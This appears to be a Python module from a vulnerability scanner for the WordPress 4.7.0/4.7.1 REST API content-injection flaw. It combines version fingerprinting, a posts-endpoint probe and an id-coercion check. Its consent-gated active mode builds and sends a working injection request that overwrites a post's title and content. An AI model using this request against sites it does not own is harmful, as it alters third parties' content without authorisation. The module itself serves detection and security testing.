"""Per-target detection: fingerprint, endpoint probe, and the id-coercion
check combined into a Verdict.

The default pipeline follows the three-step version-match plus
endpoint-presence model and can additionally run a coercion probe against
the posts update path. The REST route casts an alphanumeric id like
"123907Test" to its leading integer, so a GET with such an id discriminates
vulnerable from patched behavior without modifying anything; the active
variant actually posts a marker and is consent-gated.
"""
from __future__ import annotations

import json
import secrets
from dataclasses import dataclass
from enum import Enum

from .fingerprint import (
    AllProbesFailed,
    TargetUrl,
    WpVersion,
    fingerprint,
    is_affected_version,
)
from .http import TransportError
from .probe import NetworkUnreachable, ProbeResult, probe_posts_endpoint

COERCION_SUFFIX = "wpcisX"
CONSENT_TOKEN = "I-OWN-THIS-TARGET"
RESPONSE_EXCERPT_BYTES = 512

NOT_VULNERABLE_LINE = (
    "[!] Website is Not Vulnerable to Wordpress content injection vulnerability"
)


class InvalidSuffix(ValueError):
    pass


class ConsentRequired(Exception):
    """Active injection was requested without the consent token."""


class VerdictKind(str, Enum):
    VULNERABLE = "vulnerable"
    NOT_VULNERABLE = "not_vulnerable"
    INDETERMINATE = "indeterminate"


class CoercionMode(str, Enum):
    PASSIVE = "passive"
    ACTIVE = "active"


class CoercionResult(str, Enum):
    CONFIRMED = "confirmed"
    REFUTED = "refuted"
    INCONCLUSIVE = "inconclusive"


@dataclass(frozen=True)
class CoercionOutcome:
    mode: CoercionMode
    result: CoercionResult
    request_url: str
    request_body: str | None
    response_status: int
    response_excerpt: str


@dataclass(frozen=True)
class InjectionRequestSpec:
    method: str
    url: str
    body: str | None = None
    content_type: str | None = None


@dataclass(frozen=True)
class Verdict:
    kind: VerdictKind
    version: WpVersion | None
    vulnerable_url: str | None
    reason: str
    coercion: CoercionOutcome | None = None


@dataclass(frozen=True)
class DetectOptions:
    coercion: str = "passive"  # off | passive | active
    consent_token: str | None = None


def coerced_id(post_id: int, suffix: str) -> str:
    """Render post_id with an alphanumeric tail whose leading-integer cast is
    still post_id, which is exactly the coercion the update route performs."""
    if not suffix or suffix[0].isdigit():
        raise InvalidSuffix(f"suffix {suffix!r} must be non-empty and not start with a digit")
    return f"{post_id}{suffix}"


def _item_url(endpoint_url: str, post_id: int) -> str:
    return endpoint_url.rstrip("/") + f"/{post_id}"


def _with_id_param(url: str, value: str) -> str:
    sep = "&" if "?" in url else "?"
    return f"{url}{sep}id={value}"


def build_injection_request(endpoint_url: str, post_id: int, marker: str,
                            mode: CoercionMode) -> InjectionRequestSpec:
    """Build the coercion request for one disclosed post.

    Passive mode is a GET that merely exercises the alphanumeric id path;
    active mode POSTs a JSON body with exactly the keys id, title, content.
    The query form endpoint already carries a "?", in which case the id
    parameter is appended with "&".
    """
    coerced = coerced_id(post_id, COERCION_SUFFIX)
    url = _with_id_param(_item_url(endpoint_url, post_id), coerced)
    if mode is CoercionMode.PASSIVE:
        return InjectionRequestSpec(method="GET", url=url)
    body = json.dumps({"id": coerced, "title": marker, "content": marker})
    return InjectionRequestSpec(method="POST", url=url, body=body,
                                content_type="application/json")


def _excerpt(body: bytes) -> str:
    return body[:RESPONSE_EXCERPT_BYTES].decode("utf-8", errors="replace")


def _is_rest_error(body: bytes) -> bool:
    try:
        data = json.loads(body)
    except ValueError:
        return False
    return isinstance(data, dict) and "code" in data


def _default_marker() -> str:
    return f"wpcis-marker-{secrets.token_hex(4)}"


def coercion_check(endpoint_url: str, post_id: int, mode: CoercionMode, http,
                   consent: str | None = None, marker: str | None = None) -> CoercionOutcome:
    """Send the coercion request and classify the target's behavior.

    Passive: confirmed when the alphanumeric id was accepted and cast back to
    the disclosed post; refuted on 404 or a REST error object. Active:
    confirmed only when a follow-up read shows the injected marker; requires
    the literal consent token before any POST is emitted.
    """
    if mode is CoercionMode.ACTIVE and consent != CONSENT_TOKEN:
        raise ConsentRequired("active injection requires the consent token")
    marker = marker if marker is not None else _default_marker()
    spec = build_injection_request(endpoint_url, post_id, marker, mode)
    try:
        return _send_coercion(endpoint_url, post_id, mode, http, marker, spec)
    except TransportError as exc:
        raise NetworkUnreachable(str(exc)) from exc


def _send_coercion(endpoint_url: str, post_id: int, mode: CoercionMode, http,
                   marker: str, spec: InjectionRequestSpec) -> CoercionOutcome:
    if mode is CoercionMode.PASSIVE:
        resp = http.get(spec.url, headers={"Accept": "application/json"})
        result = CoercionResult.INCONCLUSIVE
        if resp.status == 200:
            try:
                data = json.loads(resp.body)
            except ValueError:
                data = None
            if isinstance(data, dict) and data.get("id") == post_id:
                result = CoercionResult.CONFIRMED
        if result is not CoercionResult.CONFIRMED:
            if resp.status == 404 or _is_rest_error(resp.body):
                result = CoercionResult.REFUTED
        return CoercionOutcome(mode, result, spec.url, None, resp.status, _excerpt(resp.body))

    resp = http.post(spec.url, spec.body.encode(), headers={
        "Content-Type": spec.content_type, "Accept": "application/json"})
    if resp.status in (401, 403, 404):
        return CoercionOutcome(mode, CoercionResult.REFUTED, spec.url, spec.body,
                               resp.status, _excerpt(resp.body))
    if resp.status == 200:
        follow = http.get(_item_url(endpoint_url, post_id),
                          headers={"Accept": "application/json"})
        if follow.status == 200 and marker.encode() in follow.body:
            return CoercionOutcome(mode, CoercionResult.CONFIRMED, spec.url, spec.body,
                                   resp.status, _excerpt(resp.body))
    return CoercionOutcome(mode, CoercionResult.INCONCLUSIVE, spec.url, spec.body,
                           resp.status, _excerpt(resp.body))


def _not_found_reason(detail: str) -> str:
    return f"WordPress Content Injection vulnerability not found: {detail}"


def _is_imprecise_47(v: WpVersion) -> bool:
    return v.major == 4 and v.minor == 7 and v.patch is None


def detect(target: TargetUrl, options: DetectOptions, http) -> Verdict:
    """Run the full three-step detection pipeline against one target.

    Version match plus posts-endpoint presence yields Vulnerable when the
    coercion check is off, which is the model's verbatim behavior. With the
    passive check enabled, or whenever the fingerprint is only "4.7" and
    cannot separate 4.7.0/4.7.1 from 4.7.2, the verdict instead follows the
    coercion outcome. Transport failure at a mandatory step is reported as
    Indeterminate, never as safe.
    """
    try:
        fp = fingerprint(target, http)
    except AllProbesFailed as exc:
        return Verdict(VerdictKind.INDETERMINATE, None, None, str(exc))

    if not fp.is_wordpress:
        return Verdict(VerdictKind.NOT_VULNERABLE, None, None, "not WordPress")
    version = fp.version
    if version is None:
        return Verdict(VerdictKind.NOT_VULNERABLE, None, None,
                       _not_found_reason("WordPress version could not be determined"))
    imprecise = _is_imprecise_47(version)
    if not is_affected_version(version) and not imprecise:
        return Verdict(VerdictKind.NOT_VULNERABLE, version, None,
                       _not_found_reason(f"version {version} is outside 4.7.0/4.7.1"))

    try:
        probe = probe_posts_endpoint(target, http)
    except NetworkUnreachable as exc:
        return Verdict(VerdictKind.INDETERMINATE, version, None, str(exc))
    if not probe.endpoint_present:
        return Verdict(VerdictKind.NOT_VULNERABLE, version, None,
                       _not_found_reason("posts endpoint not found"))

    needs_coercion = options.coercion != "off" or imprecise
    if not needs_coercion:
        return Verdict(VerdictKind.VULNERABLE, version, probe.endpoint_url,
                       "version match and posts endpoint present")

    outcome = _run_coercion(probe, options, http)
    if outcome.result is CoercionResult.CONFIRMED:
        return Verdict(VerdictKind.VULNERABLE, version, probe.endpoint_url,
                       "coercion probe confirmed the injectable update path",
                       coercion=outcome)
    if outcome.result is CoercionResult.REFUTED:
        return Verdict(VerdictKind.NOT_VULNERABLE, version, None,
                       _not_found_reason("coercion probe refuted the update path"),
                       coercion=outcome)
    return Verdict(VerdictKind.INDETERMINATE, version, None,
                   f"coercion probe inconclusive: {outcome.response_excerpt or 'no evidence'}",
                   coercion=outcome)


def _run_coercion(probe: ProbeResult, options: DetectOptions, http) -> CoercionOutcome:
    mode = CoercionMode.ACTIVE if options.coercion == "active" else CoercionMode.PASSIVE
    if not probe.posts:
        return CoercionOutcome(mode, CoercionResult.INCONCLUSIVE, probe.endpoint_url,
                               None, 0, "no disclosed post id to probe")
    try:
        return coercion_check(probe.endpoint_url, probe.posts[0].id, mode, http,
                              consent=options.consent_token)
    except NetworkUnreachable as exc:
        return CoercionOutcome(mode, CoercionResult.INCONCLUSIVE, probe.endpoint_url,
                               None, 0, str(exc))


def render_verdict(v: Verdict) -> str:
    """Render the verdict block; the vulnerable and not-vulnerable forms are a
    byte-exact output contract."""
    if v.kind is VerdictKind.VULNERABLE:
        return (
            "[+] This site is vulnerable\n"
            f"[+] Version: {v.version}\n"
            f"[+] Here is the vulnerable parameter: {v.vulnerable_url}\n"
        )
    if v.kind is VerdictKind.NOT_VULNERABLE:
        return NOT_VULNERABLE_LINE + "\n"
    return f"[?] Scan inconclusive: {v.reason}\n"
